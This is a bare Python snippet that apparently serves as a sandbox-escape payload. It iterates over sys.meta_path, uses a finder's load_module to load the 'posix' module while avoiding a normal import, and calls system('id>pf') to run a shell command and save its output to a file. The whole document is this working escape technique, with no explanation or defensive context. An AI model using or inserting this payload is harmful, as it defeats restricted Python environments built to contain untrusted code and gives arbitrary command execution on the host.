import sys
for finder in sys.meta_path:
    if hasattr(finder, "load_module"):
        finder.load_module("posix").system("id>pf")
        break
